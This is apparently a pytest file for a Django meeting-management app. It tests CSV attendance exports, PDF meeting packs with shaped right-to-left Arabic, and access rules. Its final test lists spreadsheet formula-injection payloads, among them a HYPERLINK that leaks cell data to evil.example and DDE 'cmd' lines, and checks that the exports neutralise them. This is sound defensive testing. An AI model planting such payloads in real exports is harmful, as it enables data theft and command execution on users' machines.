"""CSV attendance register and the PDF meeting pack, Arabic included."""

import csv
import io

import arabic_reshaper
import pytest
from django.urls import reverse
from pypdf import PdfReader

from meetings.models import ActionPoint
from meetings.pack import visual
from meetings.services import (
    action_point_report,
    attendance_record,
    decision_add,
    minutes_approve,
    minutes_publish,
    minutes_save,
)
from members.services import person_update
from tests.pages.conftest import login

pytestmark = pytest.mark.django_db
ARABIC_MINUTES = "اجتمعت المجموعة الفرعية للصحة في طرابلس"


def test_attendance_csv(client, cast, held):
    attendance_record(meeting=held, person=cast.member_person, by=cast.secretariat)
    login(client, cast, "member")
    response = client.get(reverse("meeting-attendance-csv", args=[held.pk]))
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0] == "Organisation,Name,Position,Invited,Answer,Present"
    assert "Ministry of Health (MoH),Amina Health,Representative,yes,Pending,yes" in lines


def test_attendance_csv_is_refused_to_outsiders(client, cast, held):
    login(client, cast, "outsider")
    assert client.get(reverse("meeting-attendance-csv", args=[held.pk])).status_code == 404


def _published(cast, held, body):
    minutes = minutes_save(meeting=held, body=body, by=cast.secretariat)
    minutes_approve(minutes=minutes, by=cast.secretariat)
    minutes_publish(minutes=minutes, by=cast.secretariat)
    decision_add(meeting=held, text="اعتماد مسار الإحالة", by=cast.secretariat)


def test_meeting_pack_pdf_has_every_part(client, cast, held):
    _published(cast, held, "The sub-group met in Tripoli.")
    attendance_record(meeting=held, person=cast.member_person, by=cast.secretariat)
    login(client, cast, "member")
    response = client.get(reverse("meeting-pack", args=[held.pk]))
    assert response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    for part in (
        "Agenda",
        "Welcome",
        "Attendance",
        "Amina Health",
        "Minutes",
        "The sub-group met in Tripoli.",
        "Decisions",
        "Action points",
        "Draft the referral pathway",
    ):
        assert part in text


def test_meeting_pack_hides_draft_minutes_from_members(client, cast, held):
    minutes_save(meeting=held, body="Draft only", by=cast.secretariat)
    login(client, cast, "member")
    response = client.get(reverse("meeting-pack", args=[held.pk]))
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "Draft only" not in text


def test_meeting_pack_in_arabic_is_shaped_and_right_to_left(client, cast, held):
    _published(cast, held, ARABIC_MINUTES)
    login(client, cast, "member")
    client.post(reverse("set_language"), {"language": "ar", "next": "/"})
    response = client.get(reverse("meeting-pack", args=[held.pk]))
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    # The drawn glyphs are the joined presentation forms, in visual (right-to-left) order:
    # what a shaping renderer shows, not a row of isolated letters.
    # The glyphs drawn are the joined presentation forms (U+FE70–FEFF), not a row of
    # isolated letters; pypdf reads right-to-left runs back into logical order, so the
    # shaped sentence reads forwards only if it was drawn right to left.
    assert arabic_reshaper.reshape(ARABIC_MINUTES) in text
    assert ARABIC_MINUTES not in text
    assert arabic_reshaper.reshape("اعتماد مسار الإحالة") in text
    assert visual(ARABIC_MINUTES) not in text


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_export_cell_is_a_live_formula(client, cast, held, payload):
    action_point = ActionPoint.objects.get(meeting=held)
    action_point_report(action_point=action_point, progress=payload, by=cast.secretariat)
    person_update(person=cast.member_person, position=payload, by=None)
    attendance_record(meeting=held, person=cast.member_person, by=cast.secretariat)
    login(client, cast, "secretariat")

    exports = [
        client.get(reverse("action-point-csv")),
        client.get(reverse("meeting-attendance-csv", args=[held.pk])),
    ]

    for export in exports:
        rows = list(
            csv.reader(io.StringIO(export.content.decode("utf-8-sig"), newline=""), strict=True)
        )
        cells = [cell for row in rows for cell in row]
        assert "'" + payload in cells
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
